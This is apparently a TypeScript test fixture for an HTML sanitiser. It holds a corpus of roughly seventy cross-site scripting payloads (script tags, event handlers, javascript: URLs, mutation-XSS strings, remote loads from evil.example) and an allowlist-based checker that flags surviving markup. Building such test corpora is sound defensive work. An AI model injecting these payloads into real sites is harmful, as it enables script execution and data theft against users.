/**
 * Formatted texts that would run, load or lead somewhere (after OWASP's and PortSwigger's collections). Each calls `alert` or loads evil.example if
 * it survives.
 */
export const xssCorpus: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\x0d\x0aalert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1) //',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img/src/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/x 1x" src="/media/../api/account">',
  '<img src="/media/flags/1" style="background:url(https://evil.example)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">styled</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="java\tscript:alert(1)">link</a>',
  '<a href="java&#10;script:alert(1)">link</a>',
  '<a href="&#106;avascript:alert(1)">link</a>',
  '<a href=" &#14; javascript:alert(1)">link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">link</a>',
  '<a href="vbscript:alert(1)">link</a>',
  '<a href="//evil.example">link</a>',
  '<a href="https://example.org" onclick=alert(1) onmouseover=alert(1)>link</a>',
  '<a href="https://example.org" target="_self" rel="opener">link</a>',
  '<p onclick=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.example/x">x</td></tr></table>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<p id="settings" class="modal" data-x="1" contenteditable>named</p>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>{{constructor.constructor("alert(1)")()}}</p>',
  '<b/onpointerrawupdate=alert(1)>x</b>',
  '<a href="https://example.org/&quot;onclick=&quot;alert(1)">link</a>',
  '<img alt="<x" title="/><img src=x onerror=alert(1)>" src="/media/flags/1">',
];

/** Returns the harmful part of a formatted text, or null. It parses with another parser than the sanitiser's own. */
export function harmIn(html: string): string | null {
  for (const [tag, slash, name = '', attributes = ''] of html.matchAll(/<(\/?)([^\s/>]+)([^>]*)>/g)) {
    if (!allowedTags.has(name)) return tag;
    for (const [, attribute = '', , value = ''] of attributes.matchAll(/\s([^\s=/>]+)(=("[^"]*"|\S*))?/g)) {
      if (slash || !allowedAttributes.test(`${name} ${attribute}=${value}`)) return tag;
    }
  }
  // A bracket that begins no tag is written as text.
  return /<(?![/a-z])/i.test(html) ? html : null;
}

const allowedTags = new Set('p br strong em u s h2 h3 h4 ul ol li a img blockquote hr table thead tbody tr th td'.split(' '));
const allowedAttributes =
  /^(?:a href="(?:https?:\/\/|mailto:)[^"]*"|a rel="noopener noreferrer"|a target="_blank"|img src="\/media\/[a-z]+\/\w+(?:\?[\w.=&-]*)?"|img (?:alt|title)="[^"<>]*"|t[hd] (?:col|row)span="[^"]*")$/;
